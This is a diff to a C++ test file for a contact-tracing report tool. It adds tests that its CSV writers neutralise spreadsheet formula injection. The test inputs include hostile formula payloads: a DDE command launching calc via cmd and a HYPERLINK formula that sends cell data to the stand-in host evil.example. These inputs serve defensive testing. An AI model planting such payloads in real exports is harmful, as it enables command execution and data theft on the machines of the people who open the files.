@@ -35,6 +35,31 @@ absl::Time Jan2020(int day, int hour, int minute = 0) {
   return absl::FromCivil(absl::CivilMinute(2020, 1, day, hour, minute), kChina);
 }
 
+// p1's story in the tracer tests: a gathering with `other` on the 24th,
+// 18:00-21:00; in hospital from the 26th, 11:00; confirmed on the 27th,
+// 10:00, with onset on the 25th.
+void CaseStory(const std::string& other, v1::LedgerEvent* exposure,
+               v1::LedgerEvent* stay, v1::LedgerEvent* diagnosis) {
+  v1::Exposure* dinner = exposure->mutable_exposure();
+  dinner->set_person_a("p1");
+  dinner->set_person_b(other);
+  dinner->mutable_start()->set_seconds(absl::ToUnixSeconds(Jan2020(24, 18)));
+  dinner->mutable_end()->set_seconds(absl::ToUnixSeconds(Jan2020(24, 21)));
+  dinner->set_setting(v1::EXPOSURE_SETTING_GATHERING);
+  v1::QuarantineAction* action = stay->mutable_quarantine_action();
+  action->set_person_id("p1");
+  action->set_action(v1::QUARANTINE_ACTION_KIND_START);
+  action->set_place(v1::QUARANTINE_PLACE_HOSPITAL);
+  action->mutable_time()->set_seconds(absl::ToUnixSeconds(Jan2020(26, 11)));
+  v1::Diagnosis* confirmed = diagnosis->mutable_diagnosis();
+  confirmed->set_person_id("p1");
+  confirmed->set_status(v1::DIAGNOSIS_STATUS_CONFIRMED);
+  confirmed->mutable_onset()->set_year(2020);
+  confirmed->mutable_onset()->set_month(1);
+  confirmed->mutable_onset()->set_day(25);
+  confirmed->mutable_time()->set_seconds(absl::ToUnixSeconds(Jan2020(27, 10)));
+}
+
 RosterEntry Case(const std::string& id) {
   RosterEntry e;
   e.person_id = id;
@@ -229,6 +254,103 @@ TEST(CsvFieldTest, QuotesOnlyWhatMustBeQuoted) {
   EXPECT_EQ(CsvRow({"a", "b,c", ""}), "a,\"b,c\",\n");
 }
 
+// Issue 15, finding 4: a cell a spreadsheet would run as a formula gets a
+// "'" in front, inside the quoting; integers are numbers and stay as they are.
+TEST(CsvFieldTest, FormulasAreNeutralisedInsideTheQuoting) {
+  EXPECT_EQ(CsvField("=1+2"), "'=1+2");
+  EXPECT_EQ(CsvField("+1+2"), "'+1+2");
+  EXPECT_EQ(CsvField("-2+3+cmd|' /C calc'!A0"), "'-2+3+cmd|' /C calc'!A0");
+  EXPECT_EQ(CsvField("@SUM(A1:A9)"), "'@SUM(A1:A9)");
+  EXPECT_EQ(CsvField("\t=1"), "'\t=1");
+  EXPECT_EQ(CsvField("\r=1"), "\"'\r=1\"");
+  EXPECT_EQ(CsvField("=HYPERLINK(\"http://evil.example/?\"&A3,\"x\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A3,\"\"x\"\")\"");
+  EXPECT_EQ(CsvField("-"), "'-");
+  EXPECT_EQ(CsvField("-1.5"), "'-1.5");
+  // Integers, negative ones included, and cells with a trigger later on.
+  EXPECT_EQ(CsvField("-7"), "-7");
+  EXPECT_EQ(CsvField("42"), "42");
+  EXPECT_EQ(CsvField("a=b"), "a=b");
+  EXPECT_EQ(CsvField("2020-01-24T21:00:00+08:00"), "2020-01-24T21:00:00+08:00");
+  EXPECT_EQ(CsvRow({"=x", "-3", "p1"}), "'=x,-3,p1\n");
+  // The "'" is data: the RFC 4180 reader reads it back with the text.
+  EXPECT_THAT(ReadCsv(CsvRow({"=a,b", "@c"})),
+              ElementsAre(ElementsAre("'=a,b", "'@c")));
+}
+
+TEST(CsvFormulaTest, EveryCsvWriterNeutralisesTextAndKeepsNumbers) {
+  const std::string formula = "=HYPERLINK(\"http://evil.example/?\"&A3,\"x\")";
+  const std::string neutral = "'" + formula;
+  // Roster and loops.
+  RosterEntry contact =
+      Contact(formula, Role::kCloseContact, "@case", Jan2020(24, 21),
+              absl::CivilDay(2020, 2, 7), v1::QUARANTINE_PLACE_HOME);
+  EXPECT_THAT(
+      ReadCsv(WriteRosterCsv({contact}, kChina))[1],
+      ElementsAre(neutral, "close_contact", "'@case",
+                  "2020-01-24T21:00:00+08:00", "2020-02-07", "false", "home"));
+  EXPECT_THAT(ReadCsv(WriteLoopsCsv({Loop(formula, LoopKind::kUnregistered,
+                                          Jan2020(24, 18), "+detail")},
+                                    kChina))[1],
+              ElementsAre(neutral, "unregistered", "2020-01-24T18:00:00+08:00",
+                          "'+detail"));
+  // Explanation: a negative overlap is a number and stays one.
+  Explanation x;
+  x.person_id = "-p9";
+  x.in_roster = true;
+  x.role = Role::kCloseContact;
+  Explanation::Source source;
+  source.person_id = formula;
+  source.rule = "exposure";
+  source.exposures = {3};
+  source.first = Jan2020(24, 18);
+  source.last_exposure = Jan2020(24, 21);
+  source.overlap = absl::Seconds(-60);
+  x.sources.push_back(source);
+  std::vector<std::vector<std::string>> rows =
+      ReadCsv(WriteExplanationCsv(x, kChina));
+  ASSERT_EQ(rows.size(), 2u);
+  EXPECT_EQ(rows[1][0], "'-p9");
+  EXPECT_EQ(rows[1][3], neutral);
+  EXPECT_EQ(rows[1][8], "-60");
+  // Roll-up: area id and name.
+  AreaRollupRow area;
+  area.area_id = "@v1";
+  area.name = "=cmd|' /C calc'!A0";
+  area.persons = 3;
+  rows = ReadCsv(WriteAreaRollupCsv({area}));
+  ASSERT_EQ(rows.size(), 2u);
+  EXPECT_EQ(rows[1][0], "'@v1");
+  EXPECT_EQ(rows[1][1], "'=cmd|' /C calc'!A0");
+  EXPECT_EQ(rows[1][2], "3");
+  // Contacts, pass decision, chains.
+  EXPECT_EQ(WriteContactsCsv({ContactAtDistance{formula, 1}}),
+            "person_id,hops\n" + CsvField(formula) + ",1\n");
+  PassDecision decision;
+  decision.allowed = false;
+  decision.verdict = PassVerdict::kRefused;
+  decision.reason = "-in roster";
+  EXPECT_THAT(ReadCsv(WritePassDecisionCsv(formula, "+gate", decision))[1],
+              ElementsAre(neutral, "'+gate", "refused", "'-in roster"));
+  TransmissionChain chain;
+  chain.cases = {"=a", "b"};
+  chain.edges.push_back(TransmissionChain::Edge{"=a", "b", "exposure", {4}});
+  EXPECT_THAT(ReadCsv(WriteTransmissionChainsCsv({chain}))[1],
+              ElementsAre("1", "'=a", "b", "exposure", "4"));
+  // Audit trail: the actor and the detail.
+  AuditEntry entry;
+  entry.sequence_number = 5;
+  entry.record_time = Jan2020(24, 18);
+  entry.actor = "@worker";
+  entry.kind = v1::LedgerEvent::kExposure;
+  rows = ReadCsv(WriteAuditTrailCsv({entry}, {"=detail"}, kChina));
+  ASSERT_EQ(rows.size(), 2u);
+  EXPECT_EQ(rows[1][0], "5");
+  EXPECT_EQ(rows[1][2], "'@worker");
+  EXPECT_EQ(rows[1].back(), "'=detail");
+  EXPECT_EQ(ReadCsv(WriteAuditTrailCsv({entry}, kChina))[1][2], "'@worker");
+}
+
 TEST(JsonStringTest, EscapesQuotesBackslashesAndControlCharacters) {
   EXPECT_EQ(JsonString("plain 沅陵"), "\"plain 沅陵\"");
   EXPECT_EQ(JsonString("a\"b\\c"), "\"a\\\"b\\\\c\"");
@@ -278,24 +400,7 @@ TEST(ReportOfATracerTest, RosterAndLoopsOfASmallCountyWorkedOutByHand) {
     events[i].mutable_person()->set_id(i == 2 ? "p1" : "p2");
     events[i].mutable_person()->set_household_id("h1");
   }
-  v1::Exposure* dinner = events[4].mutable_exposure();
-  dinner->set_person_a("p1");
-  dinner->set_person_b("p3");
-  dinner->mutable_start()->set_seconds(absl::ToUnixSeconds(Jan2020(24, 18)));
-  dinner->mutable_end()->set_seconds(absl::ToUnixSeconds(Jan2020(24, 21)));
-  dinner->set_setting(v1::EXPOSURE_SETTING_GATHERING);
-  v1::QuarantineAction* stay = events[5].mutable_quarantine_action();
-  stay->set_person_id("p1");
-  stay->set_action(v1::QUARANTINE_ACTION_KIND_START);
-  stay->set_place(v1::QUARANTINE_PLACE_HOSPITAL);
-  stay->mutable_time()->set_seconds(absl::ToUnixSeconds(Jan2020(26, 11)));
-  v1::Diagnosis* diagnosis = events[6].mutable_diagnosis();
-  diagnosis->set_person_id("p1");
-  diagnosis->set_status(v1::DIAGNOSIS_STATUS_CONFIRMED);
-  diagnosis->mutable_onset()->set_year(2020);
-  diagnosis->mutable_onset()->set_month(1);
-  diagnosis->mutable_onset()->set_day(25);
-  diagnosis->mutable_time()->set_seconds(absl::ToUnixSeconds(Jan2020(27, 10)));
+  CaseStory("p3", &events[4], &events[5], &events[6]);
   ASSERT_TRUE(ledger->AppendBatch(events).ok());
 
   QueryOptions query;
@@ -330,6 +435,80 @@ TEST(ReportOfATracerTest, RosterAndLoopsOfASmallCountyWorkedOutByHand) {
       ReadJsonArray(WriteRosterJson((*tracer)->Roster(), kChina));
   ASSERT_EQ(roster_json.values_size(), 3);
   EXPECT_EQ(Field(roster_json, 2, "until").string_value(), "2020-02-07");
+}
+
+// Issue 15, finding 4, end to end: a village worker records an exposure to
+// an unregistered id that is a formula, in an area whose name is one; the
+// county's roster, loops, contacts and roll-up CSV carry them as text.
+TEST(ReportOfATracerTest, AFormulaIdOrAreaNameIsTextInEveryCsv) {
+  const std::string formula = "=HYPERLINK(\"http://evil.example/?\"&A3,\"x\")";
+  LedgerOptions options;
+  options.time_zone = kChina;
+  std::unique_ptr<Ledger> ledger = Ledger::New(options);
+  std::vector<v1::LedgerEvent> events(6);
+  events[0].mutable_area()->set_id("c");
+  events[0].mutable_area()->set_level(v1::AREA_LEVEL_COUNTY);
+  events[1].mutable_area()->set_id("v1");
+  events[1].mutable_area()->set_parent_id("c");
+  events[1].mutable_area()->set_level(v1::AREA_LEVEL_TOWNSHIP);
+  events[1].mutable_area()->set_name("@SUM(1+1)*cmd|' /C calc'!A0");
+  events[2].mutable_person()->set_id("p1");
+  events[2].mutable_person()->set_area_id("v1");
+  CaseStory(formula, &events[3], &events[4], &events[5]);
+  {
+    absl::Status appended = ledger->AppendBatch(events).status();
+    ASSERT_TRUE(appended.ok()) << appended;
+  }
+
+  QueryOptions query;
+  query.at = Jan2020(28, 12);
+  absl::StatusOr<std::unique_ptr<Tracer>> tracer =
+      Tracer::Create(*ledger, query);
+  ASSERT_TRUE(tracer.ok()) << tracer.status();
+  const std::string neutral = "'" + formula;
+  // No CSV cell a spreadsheet reads begins with a formula's first character.
+  const auto no_live_formula = [](const std::string& csv) {
+    for (const std::vector<std::string>& row : ReadCsv(csv)) {
+      for (const std::string& cell : row) {
+        EXPECT_TRUE(cell.empty() ||
+                    std::string("=+-@\t\r").find(cell[0]) == std::string::npos)
+            << cell << " in\n"
+            << csv;
+      }
+    }
+  };
+  const std::string roster = WriteRosterCsv((*tracer)->Roster(), kChina);
+  no_live_formula(roster);
+  ASSERT_EQ(ReadCsv(roster).size(), 3u) << roster;
+  EXPECT_EQ(ReadCsv(roster)[1][0], neutral) << roster;
+  const std::string loops = WriteLoopsCsv((*tracer)->OpenLoops(), kChina);
+  no_live_formula(loops);
+  bool unregistered = false;
+  for (const std::vector<std::string>& row : ReadCsv(loops)) {
+    if (row[1] == "unregistered") {
+      EXPECT_EQ(row[0], neutral);
+      unregistered = true;
+    }
+  }
+  EXPECT_TRUE(unregistered) << loops;
+  absl::StatusOr<std::vector<ContactAtDistance>> contacts =
+      Contacts(*ledger, "p1", 1, Jan2020(1, 0), Jan2020(31, 0));
+  ASSERT_TRUE(contacts.ok()) << contacts.status();
+  const std::string contacts_csv = WriteContactsCsv(*contacts);
+  no_live_formula(contacts_csv);
+  ASSERT_EQ(ReadCsv(contacts_csv).size(), 2u) << contacts_csv;
+  EXPECT_EQ(ReadCsv(contacts_csv)[1][0], neutral);
+  absl::StatusOr<std::vector<AreaRollupRow>> rollup =
+      (*tracer)->AreaRollup("c");
+  ASSERT_TRUE(rollup.ok()) << rollup.status();
+  const std::string rollup_csv = WriteAreaRollupCsv(*rollup);
+  no_live_formula(rollup_csv);
+  ASSERT_GE(ReadCsv(rollup_csv).size(), 2u) << rollup_csv;
+  EXPECT_EQ(ReadCsv(rollup_csv)[1][1], "'@SUM(1+1)*cmd|' /C calc'!A0");
+  // JSON is not changed: the id is a JSON string as it was recorded.
+  EXPECT_NE(WriteRosterJson((*tracer)->Roster(), kChina)
+                .find("\"person_id\": \"=HYPERLINK("),
+            std::string::npos);
 }
 
 }  // namespace
